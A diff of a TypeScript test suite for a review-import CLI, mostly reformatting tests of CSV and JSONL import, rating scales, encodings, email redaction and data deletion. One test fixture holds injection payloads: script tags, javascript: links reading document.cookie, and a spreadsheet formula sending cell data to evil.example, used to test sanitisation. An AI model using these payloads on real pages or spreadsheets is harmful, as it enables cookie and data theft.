@@ -24,7 +24,11 @@ function project(): string {
 }
 
 function jsonl(out: string): Record<string, unknown>[] {
-  return out.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+  return out
+    .trim()
+    .split('\n')
+    .filter(Boolean)
+    .map((l) => JSON.parse(l) as Record<string, unknown>);
 }
 
 describe('radar import / export / forget', () => {
@@ -41,7 +45,27 @@ describe('radar import / export / forget', () => {
         'Kim,"Bought it as a gift for my mum, she uses it daily.",5,2025-03-05,Bern',
       ].join('\n'),
     );
-    const r = await radar(['import', 'survey.csv', '--brand', 'brewlab', '--product', 'kettle', '--map', 'What did you think?=body', '--map', 'Respondent=author', '--map', 'Score=rating', '--map', 'When=publishedAt', '--map', 'Where=location'], { cwd });
+    const r = await radar(
+      [
+        'import',
+        'survey.csv',
+        '--brand',
+        'brewlab',
+        '--product',
+        'kettle',
+        '--map',
+        'What did you think?=body',
+        '--map',
+        'Respondent=author',
+        '--map',
+        'Score=rating',
+        '--map',
+        'When=publishedAt',
+        '--map',
+        'Where=location',
+      ],
+      { cwd },
+    );
     expect(r.code, r.stderr).toBe(0);
     expect(r.stderr).toContain('row 2: no text');
     expect(r.stderr).toContain('row 3: rating "eleven"');
@@ -52,10 +76,34 @@ describe('radar import / export / forget', () => {
     const dana = exported.find((d) => String(d.body).startsWith('Boils fast'))!;
     expect(dana.body).toContain('[email]');
     expect(dana.body).not.toContain('dana@example.org');
-    expect(dana).toMatchObject({ brand: 'brewlab', product: 'kettle', origin: 'import', rating: { value: 4, best: 5 }, publishedAt: '2025-03-01' });
+    expect(dana).toMatchObject({
+      brand: 'brewlab',
+      product: 'kettle',
+      origin: 'import',
+      rating: { value: 4, best: 5 },
+      publishedAt: '2025-03-01',
+    });
     expect(dana.authorName).toBeUndefined();
     expect(JSON.stringify(exported)).not.toContain('Dana');
-    const again = await radar(['import', 'survey.csv', '--brand', 'brewlab', '--product', 'kettle', '--map', 'What did you think?=body', '--map', 'Respondent=author', '--map', 'Score=rating', '--map', 'When=publishedAt'], { cwd });
+    const again = await radar(
+      [
+        'import',
+        'survey.csv',
+        '--brand',
+        'brewlab',
+        '--product',
+        'kettle',
+        '--map',
+        'What did you think?=body',
+        '--map',
+        'Respondent=author',
+        '--map',
+        'Score=rating',
+        '--map',
+        'When=publishedAt',
+      ],
+      { cwd },
+    );
     expect(again.stderr).toMatch(/0 new, 0 updated, 2 unchanged/);
   });
 
@@ -69,9 +117,13 @@ describe('radar import / export / forget', () => {
     expect(named.code, named.stderr).toBe(0);
     expect(named.stderr).toMatch(/2 of 2 rows imported/);
     writeFileSync(join(cwd, 'head.tsv'), 'comment\tscore\nQuiet, and the "keep warm" button works.\t5\n');
-    expect((await radar(['import', 'head.tsv', '--brand', 'brewlab', '--map', 'comment=body', '--map', 'score=rating'], { cwd })).code).toBe(0);
+    expect(
+      (await radar(['import', 'head.tsv', '--brand', 'brewlab', '--map', 'comment=body', '--map', 'score=rating'], { cwd })).code,
+    ).toBe(0);
     const bodies = jsonl((await radar(['export'], { cwd })).stdout).map((d) => d.body);
-    expect(bodies).toEqual(expect.arrayContaining(['The lid says "locked" but opens.', 'Boils fast, pours clean.', 'Quiet, and the "keep warm" button works.']));
+    expect(bodies).toEqual(
+      expect.arrayContaining(['The lid says "locked" but opens.', 'Boils fast, pours clean.', 'Quiet, and the "keep warm" button works.']),
+    );
     // The same tabs in a .csv: named, not read as one column.
     writeFileSync(join(cwd, 'tabs.csv'), 'comment\tscore\nFine.\t4\n');
     const tabs = await radar(['import', 'tabs.csv', '--brand', 'brewlab'], { cwd });
@@ -80,13 +132,23 @@ describe('radar import / export / forget', () => {
 
   it('imports ratings on a scale from 0 (NPS answers) with --rating-scale 0-10', async () => {
     const cwd = project();
-    writeFileSync(join(cwd, 'nps.csv'), ['id,comment,score', '1,Would not recommend it to anyone.,0', '2,Perfect kettle.,10', '3,Fine.,5'].join('\n'));
+    writeFileSync(
+      join(cwd, 'nps.csv'),
+      ['id,comment,score', '1,Would not recommend it to anyone.,0', '2,Perfect kettle.,10', '3,Fine.,5'].join('\n'),
+    );
     const refused = await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '10'], { cwd });
     expect(refused.stderr).toContain('row 1: rating "0" is not a number on a 1–10 scale (set --rating-scale, e.g. 10 or 0-10)');
     const r = await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '0-10', '--source', 'nps'], { cwd });
     expect(r.code, r.stderr).toBe(0);
-    const ratings = jsonl((await radar(['export'], { cwd })).stdout).filter((d) => d.sourceId === 'nps').map((d) => d.rating).sort((a, b) => (a as { value: number }).value - (b as { value: number }).value);
-    expect(ratings).toEqual([{ value: 0, best: 10, worst: 0 }, { value: 5, best: 10, worst: 0 }, { value: 10, best: 10, worst: 0 }]);
+    const ratings = jsonl((await radar(['export'], { cwd })).stdout)
+      .filter((d) => d.sourceId === 'nps')
+      .map((d) => d.rating)
+      .sort((a, b) => (a as { value: number }).value - (b as { value: number }).value);
+    expect(ratings).toEqual([
+      { value: 0, best: 10, worst: 0 },
+      { value: 5, best: 10, worst: 0 },
+      { value: 10, best: 10, worst: 0 },
+    ]);
     expect((await radar(['import', 'nps.csv', '--brand', 'brewlab', '--rating-scale', '10-0'], { cwd })).code).toBe(2);
   });
 
@@ -111,7 +173,13 @@ describe('radar import / export / forget', () => {
 
   it('links imported mentions to the brands they name and drops brand-less ones', async () => {
     const cwd = project();
-    writeFileSync(join(cwd, 'posts.jsonl'), ['{"id":"1","text":"Brew Lab K1 vs Steamway, which one?","author":"a"}', '{"id":"2","text":"Nothing to do with kettles","author":"b"}'].join('\n'));
+    writeFileSync(
+      join(cwd, 'posts.jsonl'),
+      [
+        '{"id":"1","text":"Brew Lab K1 vs Steamway, which one?","author":"a"}',
+        '{"id":"2","text":"Nothing to do with kettles","author":"b"}',
+      ].join('\n'),
+    );
     const r = await radar(['import', 'posts.jsonl', '--kind', 'mention'], { cwd });
     expect(r.code).toBe(0);
     expect(r.stderr).toContain('row 2: names no configured brand');
@@ -131,7 +199,9 @@ describe('radar import / export / forget', () => {
     writeFileSync(join(cwd, 'week2', 'survey.csv'), 'text\nThe handle gets hot after a minute.\n');
     expect((await radar(['import', 'week1/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/3 new/);
     expect((await radar(['import', 'week2/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/1 new, 0 updated/);
-    const bodies = jsonl((await radar(['export', '--include-duplicates'], { cwd })).stdout).map((d) => d.body).sort();
+    const bodies = jsonl((await radar(['export', '--include-duplicates'], { cwd })).stdout)
+      .map((d) => d.body)
+      .sort();
     expect(bodies).toEqual(['Good', 'Good', 'The handle gets hot after a minute.', 'The kettle pours beautifully.']);
     expect((await radar(['import', 'week1/survey.csv', '--brand', 'brewlab'], { cwd })).stderr).toMatch(/0 new, 0 updated, 3 unchanged/);
   });
@@ -160,7 +230,10 @@ describe('radar import / export / forget', () => {
     expect(refused.code).toBe(1);
     expect(refused.stderr).toMatch(/latin1\.csv is not UTF-8 \(line 2.*--encoding windows-1252/);
     expect((await radar(['import', 'latin1.csv', '--brand', 'brewlab', '--encoding', 'windows-1252'], { cwd })).code).toBe(0);
-    writeFileSync(join(cwd, 'wide.csv'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('text\n"Schön leise, sehr gut"\n', 'utf16le')]));
+    writeFileSync(
+      join(cwd, 'wide.csv'),
+      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('text\n"Schön leise, sehr gut"\n', 'utf16le')]),
+    );
     expect((await radar(['import', 'wide.csv', '--brand', 'brewlab'], { cwd })).code).toBe(0);
     writeFileSync(join(cwd, 'bom.jsonl'), '\uFEFF{"text":"The first line counts too."}\n{"text": oops\n');
     const bom = await radar(['import', 'bom.jsonl', '--brand', 'brewlab'], { cwd });
@@ -196,7 +269,9 @@ describe('radar import / export / forget', () => {
       [
         { id: 'e1', title: 'Tea &amp; toast', body: 'Staff &amp; crew were lovely &#8211; i&amp;amp;amp;#39;m impressed &lt;3' },
         { id: 'e2', body: 'R&D made it, AT&T delivered it, Q&A answered &copycats.' },
-      ].map((r) => JSON.stringify(r)).join('\n'),
+      ]
+        .map((r) => JSON.stringify(r))
+        .join('\n'),
     );
     expect((await radar(['import', 'escaped.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
     const docs = jsonl((await radar(['export'], { cwd })).stdout);
@@ -214,7 +289,11 @@ describe('radar import / export / forget', () => {
     const rows = [
       { id: 'h1', body: '<script>alert("x")</script> The kettle boils fast and the lid is sturdy.', url: 'https://shop.example/r/1' },
       { id: 'h2', body: '[Claim your prize](javascript:alert(1)) The kettle is loud, **very** loud.', url: 'https://shop.example/r/2' },
-      { id: 'h3', body: '=HYPERLINK("http://evil.example/?x="&A1,"click") The kettle leaks at the spout.', url: 'https://shop.example/r/3' },
+      {
+        id: 'h3',
+        body: '=HYPERLINK("http://evil.example/?x="&A1,"click") The kettle leaks at the spout.',
+        url: 'https://shop.example/r/3',
+      },
       { id: 'h4', body: 'Lovely kettle, quick to boil.', url: 'javascript:alert(document.cookie)//' },
     ];
     writeFileSync(join(cwd, 'hostile.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n'));
@@ -235,7 +314,14 @@ describe('radar import / export / forget', () => {
 
   it('forgets a person by name and site: documents gone, others kept, counts reported', async () => {
     const cwd = project();
-    writeFileSync(join(cwd, 'r.jsonl'), ['{"id":"1","text":"Great kettle, fast and quiet.","author":"Dana K."}', '{"id":"2","text":"Lid wobbles after a month.","author":"Dana K."}', '{"id":"3","text":"Fine for the price.","author":"Sam"}'].join('\n'));
+    writeFileSync(
+      join(cwd, 'r.jsonl'),
+      [
+        '{"id":"1","text":"Great kettle, fast and quiet.","author":"Dana K."}',
+        '{"id":"2","text":"Lid wobbles after a month.","author":"Dana K."}',
+        '{"id":"3","text":"Fine for the price.","author":"Sam"}',
+      ].join('\n'),
+    );
     expect((await radar(['import', 'r.jsonl', '--brand', 'brewlab'], { cwd })).code).toBe(0);
     // A report written elsewhere with --out is cleaned too.
     expect((await radar(['report', '--out', 'shared-with-sales', '--format', 'json,csv'], { cwd })).code).toBe(0);
@@ -297,7 +383,10 @@ describe('radar import / export / forget', () => {
     const docs = parse(readFileSync(join(cwd, 'full', 'documents.csv')), { columns: true }) as Record<string, string>[];
     const danas = docs.filter((d) => /too high|Lid wobbles/.test(d.body!)).map((d) => d.id!);
     expect(danas).toHaveLength(2);
-    const exampleIds = (file: string) => (parse(readFileSync(file), { columns: true }) as Record<string, string>[]).flatMap((r) => r.example_documents!.split(' ').filter(Boolean));
+    const exampleIds = (file: string) =>
+      (parse(readFileSync(file), { columns: true }) as Record<string, string>[]).flatMap((r) =>
+        r.example_documents!.split(' ').filter(Boolean),
+      );
     // The price theme quotes Dana's reviews as examples before.
     expect(exampleIds(join(cwd, 'full', 'themes.csv'))).toEqual(expect.arrayContaining(danas));
 
